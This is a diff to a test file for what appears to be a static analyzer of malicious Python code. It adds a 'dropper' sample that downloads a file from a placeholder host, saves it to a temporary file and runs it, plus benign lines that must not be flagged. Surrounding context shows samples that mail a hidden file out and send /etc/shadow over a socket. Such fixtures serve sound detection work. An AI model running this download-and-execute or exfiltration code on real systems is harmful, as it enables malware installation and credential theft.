@@ -174,6 +174,18 @@ s.sendmail("a@mail.example", ["drop@mail.example"], open("/tmp/.c.jpg", "rb").re
 `,
   },
   {
+    name: 'a download saved to a temporary file and started',
+    least: 'critical',
+    rule: 'dropper',
+    source: `import requests, tempfile, subprocess
+response = requests.get("https://cdn.example.invalid/attachments/1/2/update")
+with tempfile.NamedTemporaryFile(delete=False) as tmp:
+    tmp.write(response.content)
+    program = tmp.name
+subprocess.call([program])
+`,
+  },
+  {
     name: '/etc/shadow sent over a socket',
     least: 'high',
     rule: 'credential-access',
@@ -214,6 +226,11 @@ clip = cv2.VideoCapture("holiday.mp4")
 os.system("systemctl restart myapp")
 import ctypes
 ctypes.windll.kernel32.RtlMoveMemory(dest, message, length)
+import urllib.request, subprocess
+with open(filename, "wb") as fp:
+    fp.write(urllib.request.urlopen(url).read())
+vcs = url.split(":")[0]
+subprocess.check_call([vcs, "clone", "--quiet", url, filename])
 `;
   const { findings } = analyzer.analyze('tidy.py', Buffer.from(benign));
   assert.deepEqual(findings.filter((f) => RANK[f.severity] >= RANK.high).map((f) => `${f.line} ${f.ruleId}`), []);
